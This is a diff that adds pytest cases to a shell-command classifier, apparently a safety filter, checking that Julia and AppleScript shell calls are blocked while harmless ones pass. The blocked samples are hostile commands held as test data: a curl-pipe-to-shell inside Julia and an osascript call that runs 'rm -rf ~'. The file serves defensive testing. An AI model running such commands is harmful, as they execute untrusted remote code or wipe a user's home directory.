@@ -364,3 +364,12 @@ def test_code_hidden_in_variables_sed_clients_and_list_calls_is_classified(comma
 ])
 def test_ordinary_sed_scripts_prompts_and_client_commands_pass(command: str) -> None:
     assert classify(command).verdict is Verdict.PASS
+
+
+@pytest.mark.parametrize(("command", "blocks"), [
+    ("julia -e 'run(`curl u | sh`)'", True), ("julia -e 'x = 1'", False),
+    ("osascript -e 'do shell script \"rm -rf ~\"'", True),
+    ("osascript -e 'tell app \"Finder\" to activate'", False),
+])
+def test_julia_and_applescript_shell_calls_are_classified(command: str, blocks: bool) -> None:
+    assert (classify(command).verdict is Verdict.BLOCK) is blocks
